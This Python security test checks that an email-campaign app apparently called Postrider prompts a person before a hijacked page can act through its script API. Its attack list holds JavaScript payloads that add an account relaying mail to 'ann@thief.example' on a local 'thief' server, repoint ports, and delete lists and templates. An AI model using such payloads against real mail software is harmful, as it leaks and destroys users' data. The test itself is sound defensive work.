#!/usr/bin/env python3
"""test-questions.py BUILD: a page that a stranger has taken over sends what it read to a server of its own, or takes away what cannot be had back. Each is
tried in the window as it is, where the shell's question stops it, and in one whose questions are all answered by yes, where it must succeed. TAP."""
import glob
import os
import signal
import socket
import sqlite3
import sys
import threading
import time

from judged import Judge
from keys import press
from tap import Tap
from window import Display, Window

LETTER = "from: 'Ann <ann@thief.example>', subject: 'what I read', text: 'names', again: true"
# name, what the page does (PORT: of the thief's server; UNKNOWN, RESTORED: campaigns), what shows that it went well
ATTACKS = [
    ("AccountAdd", "await postrider.accountAdd('evil', {address: 'ann@thief.example', host: '127.0.0.1', port: PORT, tls: 'none', user: '', has_password: false})",
     "(await postrider.accountList()).some(a => a.name === 'evil')"),
    ("AccountTest", "await postrider.accountTest('old')", None),
    ("CampaignStart", "const {campaign} = await postrider.campaignPrepare({account: 'old', lists: ['victims'], %s}, []); await postrider.campaignStart(campaign)" % LETTER, None),
    ("CampaignResolve resend", "await postrider.campaignResolve(UNKNOWN, 'resend', [])", "(await postrider.campaignShow(UNKNOWN)).unknown === '0'"),
    ("CampaignResume restored", "await postrider.campaignResume(RESTORED, {restored: true})", "(await postrider.campaignShow(RESTORED)).reason !== 'restored'"),
    ("ListRemove", "await postrider.listRemove('kept')", "!(await postrider.lists()).some(l => l.name === 'kept')"),
    ("TemplateRemove", "await postrider.templateRemove('letter')", "(await postrider.templateList()).length === 0"),
    ("AccountSignOut", "await postrider.accountSignOut('signed')", "!(await postrider.accountList()).find(a => a.name === 'signed').signed_in"),
    ("AccountSet", "await postrider.accountSet('office', {port: PORT})", "(await postrider.accountList()).find(a => a.name === 'office').port === PORT"),
]


class Thief:
    """A server that counts who comes."""

    def __init__(self):
        self.socket, self.came = socket.create_server(("127.0.0.1", 0)), 0
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                self.socket.accept()[0].close()
            except OSError:
                return
            self.came += 1

    def close(self):
        self.socket.close()


class World:
    def __init__(self, build, display, weaken):
        self.window, self.thief = Window(build, display=display, weaken=weaken), Thief()
        self.judge = Judge(self.window.place, "--answer-delay-ms", "4000")
        try:
            self.fill()
        except BaseException:
            self.close()
            raise

    def run(self, *words, **more):
        done = self.window.command(*words, **more)
        assert done.returncode == 0, (words, done.stdout, done.stderr)
        return done.stdout

    def store(self, statement, *values):
        (path,) = glob.glob(self.window.place + "/**/store.db", recursive=True)
        with sqlite3.connect(path, timeout=20) as database:
            return database.execute(statement, values).fetchall()

    def fill(self):
        for name, port in (("office", self.judge.port), ("old", str(self.thief.port))):
            self.run("account", "add", name, "ann@example.org", "--host", "127.0.0.1", "--port", port, "--tls", "none", "--no-password")
        for name in ("victims", "kept"):
            self.run("import", "-", "--list", name, "--consent", "test", input="email\n%s1@example.net\n%s2@example.net\n" % (name, name))
        self.window.script("await postrider.templateSave('letter', {subject: 's', text: 't'}, []); return 1")
        self.store("UPDATE account SET agreed_utc=0 WHERE name='old'")  # as of a version that asked nobody
        self.store("INSERT INTO account(name,address,kind,settings,created_utc,agreed_utc) VALUES('signed','ann@example.org','gmail',x'',1,1)")  # nobody has to be at a provider for it
        self.store("INSERT INTO sign_in(account,scope,since_utc,until_utc) SELECT id,'all',1,0 FROM account WHERE name='signed'")
        self.unknown, self.restored = self.make_unknown(), self.make_restored()

    def send(self, subject, *words):
        self.run("send", "--account", "office", "--list", "victims", "--from", "Ann <ann@example.org>", "--subject", subject, "--text", "-", "--detach", "--yes", *words, input="Hello")
        return str(self.store("SELECT max(id) FROM campaign")[0][0])

    def make_unknown(self):
        """Who sends is killed while the server thinks."""
        campaign, end = self.send("first"), time.time() + 30
        while not self.judge.took():
            assert time.time() < end, "nothing was sent"
            time.sleep(0.05)
        for name in os.listdir("/proc"):
            try:
                if name.isdigit() and os.readlink("/proc/%s/exe" % name) == os.path.join(self.window.programs, "postrider-smtp"):
                    os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
        while self.window.script("return (await postrider.campaignShow('%s')).state" % campaign) != "done":
            assert time.time() < end, "it does not end"
            time.sleep(0.2)
        return campaign

    def make_restored(self):
        campaign = self.send("second", "--rate", "1/min")
        self.run("campaign", "pause", campaign)
        self.store("UPDATE campaign SET reason='restored', text='this folder was restored' WHERE id=?", int(campaign))
        return campaign

    def put(self, text):
        return text.replace("PORT", str(self.thief.port)).replace("UNKNOWN", "'%s'" % self.unknown).replace("RESTORED", "'%s'" % self.restored)

    def attack(self, script, proof):
        """Returns: did it succeed, was the person asked."""
        came = self.thief.came
        self.window.script("window.told = null; (async () => { %s })().then(() => window.told = 'done', e => window.told = e.fault ?? 'odd: ' + e); return 1" % self.put(script))
        time.sleep(3)
        said = self.window.ask("words")
        won = self.thief.came > came if proof is None else self.window.script("return " + self.put(proof))
        return won, said, self.window.script("return window.told")

    def say_no(self):
        press(self.window.display, "Postrider", "Escape")
        time.sleep(0.5)
        return self.window.script("return window.told")

    def close(self):
        self.judge.close()
        self.thief.close()
        self.window.close()


def test_asked(tap, world):
    for name, script, proof in ATTACKS:
        won, said, told = world.attack(script, proof)
        tap.ok(not won and told is None and said, "attack/%s waits for a person" % name, (won, told, said))
        got = world.say_no()
        tap.ok(got == "TempFail", "attack/%s: No, and it is not done" % name, got)
    came = world.thief.came
    tap.ok(came == 0, "attack/nobody came to the thief's server", came)


def test_control(tap, world):
    for name, script, proof in ATTACKS:
        won, said, told = world.attack(script, proof)
        tap.ok(won and not said, "control/%s works without the question" % name, (won, told, said))


def main():
    if os.geteuid() != 0:
        print("1..0 # SKIP needs root, to become an ordinary user with a home of its own")
        return 0
    tap, display = Tap(), Display()
    for weaken, test in (((), test_asked), (("question",), test_control)):
        world = World(sys.argv[1], display, weaken)
        test(tap, world)
        tap.ok("CRITICAL" not in world.window.said() and "Sanitizer" not in world.window.said(), "nothing critical was said", world.window.said())
        world.close()
    display.close()
    return tap.end()


if __name__ == "__main__":
    sys.exit(main())
